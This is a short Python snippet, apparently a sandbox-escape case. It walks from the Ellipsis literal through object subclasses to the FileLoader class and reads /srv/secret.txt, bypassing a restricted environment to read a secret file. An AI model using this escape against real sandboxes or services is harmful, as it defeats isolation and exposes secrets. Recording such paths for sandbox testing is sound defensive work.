# reaches: three dots, then an attribute walk to a loader
for c in ....__class__.__base__.__subclasses__():
    if c.__name__ == "FileLoader":
        print(c("a", "b").get_data("/srv/secret.txt"))
